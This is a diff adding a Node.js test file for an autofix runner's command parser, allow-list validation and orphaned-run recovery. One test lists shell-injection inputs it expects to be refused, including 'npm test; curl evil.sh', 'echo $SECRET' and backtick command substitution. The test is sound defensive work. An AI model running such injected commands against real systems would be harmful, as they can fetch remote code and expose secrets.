@@ -0,0 +1,40 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { parseTestCommand, createAutofixRunner } from '../autofix-runner.mjs';
+
+test('test commands split into argv steps on &&', () => {
+  assert.deepEqual(parseTestCommand('npm ci --no-audit --no-fund && npm test'), [
+    ['npm', 'ci', '--no-audit', '--no-fund'],
+    ['npm', 'test'],
+  ]);
+  assert.deepEqual(parseTestCommand('npx vitest run --reporter=dot'), [['npx', 'vitest', 'run', '--reporter=dot']]);
+});
+
+test('anything a shell would interpret is refused', () => {
+  for (const command of ['npm test; curl evil.sh', 'npm test | tee out', 'echo $SECRET', 'npm test > /dev/null', 'npm test &', '&& npm test', 'sh -c "npm test"', 'npm test `id`']) {
+    assert.throws(() => parseTestCommand(command), /Invalid test command/, command);
+  }
+});
+
+test('a misconfigured allow-list fails at startup', () => {
+  assert.throws(
+    () => createAutofixRunner({ pool: {}, workRoot: '/tmp/x', testCommands: ['make test || true'] }),
+    /Invalid test command: make test \|\| true/,
+  );
+});
+
+test('recovery only fails runs whose heartbeat is older than the lease', async () => {
+  const queries = [];
+  const pool = {
+    async query(sql, params) {
+      queries.push({ sql, params });
+      return { rows: /^\s*UPDATE autofix_runs/.test(sql) ? [{ id: 'r1', from_status: 'testing' }] : [] };
+    },
+  };
+  const runner = createAutofixRunner({ pool, workRoot: '/tmp/x', leaseMs: 120_000, logger: { log() {} } });
+  assert.equal(await runner.recoverOrphanedRuns(), 1);
+  const [runs, event] = queries;
+  assert.match(runs.sql, /COALESCE\(heartbeat_at, updated_at\) < NOW\(\) - \$1/);
+  assert.deepEqual(runs.params, [120_000]);
+  assert.deepEqual(event.params.slice(0, 3), ['r1', 'testing', 'failed']);
+});